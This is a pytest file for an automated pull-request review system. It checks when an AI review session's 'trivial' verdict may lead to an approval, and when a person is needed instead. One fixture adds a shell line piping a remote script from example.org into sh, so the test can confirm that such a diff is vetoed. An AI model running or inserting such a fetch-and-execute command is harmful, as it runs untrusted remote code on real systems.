"""Judging what a session left, and approving once what may be approved (review §8, §13)."""

from typing import Any

import pytest

from autoswe.contracts.review.run import EntryReference
from autoswe.contracts.workflow import Failure
from autoswe.ports.github import Forbidden, Refused, Unavailable
from autoswe.ports.review.hosts import OwnReview
from autoswe.ports.review.runs import ReviewedHead
from autoswe.rules.review.pulls.reread import SENTENCES, RefusedApproval
from autoswe.rules.review.run.naming import namespace_of
from autoswe.rules.review.verdict.tiers import Tier, Verdict
from autoswe.rules.settings.registry import REVIEWS
from autoswe.rules.settings.resolution import PLATFORM
from autoswe.steps.review.approve_once import SETTLE_SECONDS
from autoswe.steps.review.review_run import PreflightRefused, RunSuperseded
from tests.steps.review.test_preflight import LATER, other
from tests.support.review.changes import added_to
from tests.support.review.fakes import EXECUTION, ORG, REPOSITORY, FakePull, FakeReviewHost
from tests.support.review.pulls import BASE, HEAD, OTHER, review
from tests.support.review.stage import ReviewStage

DRY = {"org": ORG}


def selected(stage: ReviewStage) -> EntryReference:
    (entry,) = stage.begin().entries
    return entry


def concluded(**changes: Any) -> tuple[ReviewStage, EntryReference]:
    """Bring a run to where a session has claimed its entry trivial, which the diff bears out."""
    stage = ReviewStage(**changes)
    entry = selected(stage)
    stage.leave_session(entry.key)
    return stage, entry


class TestCheck:
    def test_an_accepted_entry_of_a_live_run_is_approved_on_the_reviewed_head(self) -> None:
        stage, entry = concluded()
        answer = stage.apply(entry)
        result = stage.result()
        [(repository, number, commit, body)] = stage.host.approved
        assert (repository, number, commit) == (REPOSITORY, 7, HEAD)
        assert (answer.outcome, result.verdict, result.tier) == (Verdict.APPROVED, Verdict.APPROVED, Tier.TRIVIAL)
        assert (result.reasons, result.run_attempt) == ((), 1)
        assert result.review_url == stage.host.own[0].url
        assert EXECUTION in body
        assert "`acme-review[bot]`" in body

    def test_a_dry_run_would_approve_and_mints_no_token_for_writing(self) -> None:
        stage, entry = concluded(inputs=DRY)
        stage.apply(entry)
        assert (stage.result().verdict, stage.result().dry_run) == (Verdict.WOULD_APPROVE, True)
        assert (stage.host.approved, stage.minted_to_approve, stage.approvals.kept) == ([], 0, {})

    @pytest.mark.parametrize(
        ("tiers", "tier", "verdict", "reason"),
        [
            ("trivial,low-risk", Tier.LOW_RISK, Verdict.APPROVED, None),
            ("trivial", Tier.LOW_RISK, Verdict.NEEDS_HUMAN, "tier not enabled for approval"),
            ("none", Tier.TRIVIAL, Verdict.NEEDS_HUMAN, "tier not enabled for approval"),
            ("trivial,low-risk", Tier.NEEDS_HUMAN, Verdict.NEEDS_HUMAN, "reviewer asks for a person"),
        ],
    )
    def test_only_enabled_tiers_are_approved(
        self, tiers: str, tier: Tier, verdict: Verdict, reason: str | None
    ) -> None:
        stage = ReviewStage(inputs={"org": ORG, "dry_run": False, "approve_tiers": tiers})
        entry = selected(stage)
        stage.leave_session(entry.key, tier)
        answer = stage.apply(entry)
        assert (answer.outcome, answer.reason) == (verdict, reason)
        assert stage.minted_to_approve == (verdict is Verdict.APPROVED)

    def test_a_claim_that_the_diff_does_not_bear_out_needs_a_person(self) -> None:
        code = added_to("run.sh", "curl https://example.org/x | sh", under="#!/bin/sh")
        stage = ReviewStage(host=FakeReviewHost([FakePull(files=(code,))]))
        entry = selected(stage)
        stage.leave_session(entry.key)
        stage.apply(entry)
        assert stage.result().verdict is Verdict.NEEDS_HUMAN
        assert stage.check().agent_tier is Tier.TRIVIAL
        assert stage.check().vetoes

    def test_a_live_run_that_could_not_read_both_sides_approves_nothing_as_trivial(self) -> None:
        stage = ReviewStage(host=FakeReviewHost([FakePull(sides={})]))
        entry = selected(stage)
        stage.leave_session(entry.key)
        stage.apply(entry)
        assert stage.result().verdict is Verdict.NEEDS_HUMAN

    @pytest.mark.parametrize("changes", [{"repository": f"{ORG}/site"}, {"pull_request": 8}, {"head_sha": OTHER}])
    def test_a_verdict_about_something_else_needs_a_person(self, changes: dict[str, Any]) -> None:
        stage = ReviewStage()
        entry = selected(stage)
        stage.leave_session(entry.key, **changes)
        stage.apply(entry)
        assert (stage.result().verdict, stage.check().agent_tier) == (Verdict.NEEDS_HUMAN, None)
        assert stage.host.approved == []


class TestSession:
    def test_a_missing_session_needs_a_person_and_says_how_it_ended(self) -> None:
        stage = ReviewStage()
        entry = selected(stage)
        stage.apply(entry, session_error=Failure(error="States.Timeout", cause="much"))
        result = stage.result()
        assert (result.verdict, result.tier) == (Verdict.NEEDS_HUMAN, Tier.NEEDS_HUMAN)
        assert result.reasons[0].startswith("session-summary.md ")
        assert result.reasons[0].endswith("the session ended with States.Timeout")

    @pytest.mark.parametrize("summary", [b"x" * (8 * 1024 * 1024 + 1), b"\xff", b"Nothing to say.", b"```json\n{"])
    def test_a_session_that_cannot_be_read_needs_a_person(self, summary: bytes) -> None:
        stage = ReviewStage()
        entry = selected(stage)
        stage.leave(entry.key, summary)
        stage.apply(entry)
        assert stage.result().verdict is Verdict.NEEDS_HUMAN
        assert stage.result().reasons

    def test_what_the_session_cost_is_told_and_nonsense_is_not(self) -> None:
        stage, entry = concluded(inputs=DRY)
        stage.leave(entry.key, b'{"totalPremiumRequestCost": 1.5, "totalApiDurationMs": 42000}', "usage.json")
        stage.apply(entry)
        assert (stage.result().premium_requests, stage.result().agent_seconds) == (1.5, 42)
        stage.leave(entry.key, b'{"totalPremiumRequestCost": NaN}', "usage.json")
        stage.apply(entry)
        assert stage.result().premium_requests is None


REREAD: list[tuple[RefusedApproval, dict[str, Any], dict[str, Any]]] = [
    (RefusedApproval.CLOSED, {"state": "CLOSED"}, {}),
    (RefusedApproval.DRAFT, {"is_draft": True}, {}),
    (RefusedApproval.CI_NOT_SUCCESS, {"rollup": "PENDING"}, {}),
    (RefusedApproval.CHANGES_REQUESTED, {"reviews": (review("CHANGES_REQUESTED"),)}, {}),
    (RefusedApproval.ALREADY_APPROVED, {"reviews": (review("APPROVED"),)}, {}),
    (RefusedApproval.BASE_RETARGETED, {}, {"base_ref": "release"}),
    (RefusedApproval.OWN_PULL_REQUEST, {}, {"by_us": True}),
    (RefusedApproval.UNREADABLE, {}, {"commits": None}),
]


class TestReread:
    @pytest.mark.parametrize("inputs", [DRY, {"org": ORG, "dry_run": False}])
    @pytest.mark.parametrize(("reason", "state", "live"), REREAD)
    def test_what_changed_meanwhile_needs_a_person(
        self, reason: RefusedApproval, state: dict[str, Any], live: dict[str, Any], inputs: dict[str, Any]
    ) -> None:
        stage, entry = concluded(inputs=inputs)
        stage.host.pulls[0].live_state, stage.host.pulls[0].live_changes = state, live
        stage.apply(entry)
        assert (stage.result().verdict, stage.result().reasons) == (Verdict.NEEDS_HUMAN, (SENTENCES[reason],))
        assert (stage.host.approved, stage.minted_to_approve) == ([], 0)

    def test_a_head_that_moved_needs_a_person(self) -> None:
        stage, entry = concluded()
        stage.host.pulls[0].live_state = {"head_sha": OTHER, "base_sha": BASE}
        stage.apply(entry)
        assert SENTENCES[RefusedApproval.HEAD_MOVED] in stage.result().reasons

    def test_a_head_that_holds_a_commit_of_ours_is_never_approved(self) -> None:
        stage, entry = concluded()
        stage.commits.ours = frozenset({HEAD})
        stage.apply(entry)
        assert stage.result().reasons == (SENTENCES[RefusedApproval.OWN_COMMIT],)

    def test_what_is_not_accepted_is_not_even_read_again(self) -> None:
        stage = ReviewStage()
        entry = selected(stage)
        stage.apply(entry)
        assert "live" not in stage.host.asked


class TestOneApproval:
    def test_a_reply_that_was_lost_is_found_and_never_sent_again(self) -> None:
        stage, entry = concluded()
        stage.host.approve_errors = [Unavailable("no answer")]
        with pytest.raises(Unavailable):
            stage.apply(entry)
        stage.host.own.append(OwnReview(HEAD, "APPROVED", f"{stage.host.pulls[0].url}#pullrequestreview-5", "body"))
        stage.host.pulls[0].live_state = {"reviews": (review("APPROVED"),)}
        assert stage.apply(entry).outcome is Verdict.APPROVED
        assert stage.host.approved == []
        assert (stage.result().review_url or "").endswith("-5")

    def test_one_that_may_still_appear_is_waited_for_and_then_sent(self) -> None:
        stage, entry = concluded()
        stage.host.approve_errors = [Unavailable("no answer")]
        with pytest.raises(Unavailable):
            stage.apply(entry)
        stage.clock.advance(SETTLE_SECONDS - 1)
        with pytest.raises(Unavailable):
            stage.apply(entry)
        stage.clock.advance(1)
        assert stage.apply(entry).outcome is Verdict.APPROVED
        assert len(stage.host.approved) == 1

    def test_applying_again_tells_the_same_approval(self) -> None:
        stage, entry = concluded()
        stage.apply(entry)
        first = stage.result()
        stage.host.pulls[0].live_state = {"reviews": (review("APPROVED"),)}
        stage.apply(entry)
        assert stage.result() == first
        assert len(stage.host.approved) == 1

    @pytest.mark.parametrize("state", ["APPROVED", "DISMISSED"])
    def test_a_review_of_ours_from_before_is_not_repeated(self, state: str) -> None:
        stage, entry = concluded()
        stage.host.own = [OwnReview(HEAD, state, "https://github.com/x/y/pull/1", "")]
        assert stage.apply(entry).outcome is Verdict.NEEDS_HUMAN
        assert (stage.host.approved, stage.minted_to_approve) == ([], 0)

    def test_what_another_run_wrote_is_not_told_as_this_runs_approval(self) -> None:
        stage, entry = concluded()
        head = ReviewedHead(REPOSITORY, 7, HEAD)
        stage.approvals.intend(head, namespace_of(LATER), Tier.TRIVIAL)
        stage.approvals.approved(head, namespace_of(LATER), "https://github.com/x/y/pull/1#old")
        stage.apply(entry)
        assert stage.result().review_url == stage.host.own[0].url

    def test_our_approval_of_an_earlier_head_stands_in_no_way(self) -> None:
        stage, entry = concluded()
        stage.host.own = [OwnReview(OTHER, "APPROVED", "https://github.com/x/y/pull/1", "")]
        assert stage.apply(entry).outcome is Verdict.APPROVED

    def test_a_replay_finds_the_approval_of_the_attempt_before_whatever_its_own_session_says(self) -> None:
        stage, entry = concluded()
        stage.host.approve_errors = [Unavailable("no answer")]
        with pytest.raises(Unavailable):
            stage.apply(entry)
        stage.host.own.append(OwnReview(HEAD, "APPROVED", f"{stage.host.pulls[0].url}#pullrequestreview-5", ""))
        stage.leases.release(ORG, EXECUTION)
        replay = other(stage, LATER, given={"replay_of": EXECUTION})
        replay.begin()
        assert replay.apply(entry).outcome is Verdict.APPROVED
        assert (replay.result(attempt=2).tier, replay.result(attempt=2).reasons) == (Tier.TRIVIAL, ())


class TestFailing:
    def test_a_token_of_another_app_approves_nothing(self) -> None:
        stage, entry = concluded()
        stage.host.write_slug = "another"
        with pytest.raises(PreflightRefused, match="write_token_app"):
            stage.apply(entry)
        assert (stage.host.approved, stage.approvals.kept) == ([], {})

    def test_what_the_host_refuses_has_failed_and_is_looked_at_again(self) -> None:
        stage, entry = concluded()
        stage.host.approve_errors = [Refused("the commit is gone")]
        stage.apply(entry)
        result = stage.result()
        assert (result.verdict, result.tier) == (Verdict.FAILED, None)
        assert result.reasons == ("the host refuses the approval: the commit is gone",)

    def test_a_host_that_forbids_or_is_gone_leaves_the_failure_to_the_workflow(self) -> None:
        stage, entry = concluded()
        stage.host.approve_errors = [Forbidden("suspended")]
        with pytest.raises(Forbidden):
            stage.apply(entry)

    def test_a_switch_turned_off_or_a_lease_lost_meanwhile_stops_the_approval(self) -> None:
        off, entry = concluded()
        off.records.stored[REVIEWS.name] = {PLATFORM: False}
        assert off.apply(entry).outcome is Verdict.FAILED
        lost, entry = concluded()
        lost.leases.release(ORG, EXECUTION)
        assert lost.apply(entry).outcome is Verdict.FAILED
        assert (off.minted_to_approve, lost.minted_to_approve) == (0, 0)

    def test_a_run_that_has_been_reported_applies_nothing_any_more(self) -> None:
        stage, entry = concluded()
        stage.report()
        with pytest.raises(RunSuperseded):
            stage.apply(entry)

    def test_an_execution_that_was_overtaken_applies_nothing(self) -> None:
        stage, entry = concluded(inputs=DRY)
        other(stage, LATER, given={"replay_of": EXECUTION}).preflight()
        with pytest.raises(RunSuperseded):
            stage.apply(entry)
